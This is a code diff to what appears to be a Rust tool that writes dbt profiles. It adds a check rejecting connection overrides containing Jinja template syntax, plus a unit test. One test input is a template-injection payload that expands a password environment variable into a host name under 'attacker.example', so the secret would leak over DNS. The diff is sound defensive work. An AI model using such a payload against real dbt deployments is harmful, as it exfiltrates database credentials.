@@ -31,6 +31,12 @@ pub enum OverrideError {
         "store '{store}': `{key}` is a ${{VAR}} reference; overrides are literal values, secrets come from the environment"
     )]
     Reference { store: String, key: String },
+    /// dbt renders its profile as Jinja: an override holding a template could make it expand
+    /// any variable of its environment (the password among them) into a host name or a path.
+    #[error(
+        "store '{store}': `{key}` holds a template (`{{{{`, `{{%` or `{{#`); overrides are literal values"
+    )]
+    Template { store: String, key: String },
     #[error(
         "store '{store}': `{key}` is not a connection key of {store_type} stores (known: {known})"
     )]
@@ -56,6 +62,9 @@ impl OverrideError {
         match self {
             OverrideError::Json(_) | OverrideError::NotAMap | OverrideError::StoreNotAMap(_) => {
                 "write the values' stores as a map: stores: {warehouse: {host: db.prod.example.com, port: 5432}}"
+            }
+            OverrideError::Template { .. } => {
+                "write the literal value: a host, port, database or path, without {{ }}, {% %} or {# #}"
             }
             OverrideError::Secret { .. } | OverrideError::Reference { .. } => {
                 "remove it from stores: and declare it in the values' secrets: (a secretKeyRef to a Kubernetes Secret)"
@@ -125,6 +134,12 @@ impl StoreOverrides {
             }
             if value.as_str().and_then(variable).is_some() {
                 return Err(error(|store, key| OverrideError::Reference { store, key }));
+            }
+            if value
+                .as_str()
+                .is_some_and(|text| ["{{", "{%", "{#"].iter().any(|open| text.contains(open)))
+            {
+                return Err(error(|store, key| OverrideError::Template { store, key }));
             }
             match (keys, known) {
                 (Some(keys), None) => {
@@ -299,6 +314,31 @@ mod tests {
             reference.apply("s", "postgres", &Map::new(), &no_secrets()),
             Err(OverrideError::Reference { .. })
         ));
+    }
+
+    /// dbt renders profiles.yml as Jinja: `{{ env_var('DK_DBT_PASSWORD') }}` in a host would
+    /// send the password to a DNS server.
+    #[test]
+    fn templates_are_refused_since_dbt_would_expand_them() {
+        for (store_type, key, value) in [
+            (
+                "postgres",
+                "host",
+                "{{ env_var('DK_DBT_PASSWORD') }}.attacker.example",
+            ),
+            ("duckdb", "path", "/tmp/{% if true %}x{% endif %}.duckdb"),
+            ("postgres", "database", "db{# comment #}"),
+        ] {
+            let overrides = StoreOverrides::parse(&json!({"s": {key: value}}).to_string()).unwrap();
+            let err = overrides
+                .apply("s", store_type, &Map::new(), &no_secrets())
+                .unwrap_err();
+            assert!(
+                matches!(&err, OverrideError::Template { key: k, .. } if k == key),
+                "{store_type} {key}: {err}"
+            );
+            assert!(!err.to_string().contains(value));
+        }
     }
 
     #[test]
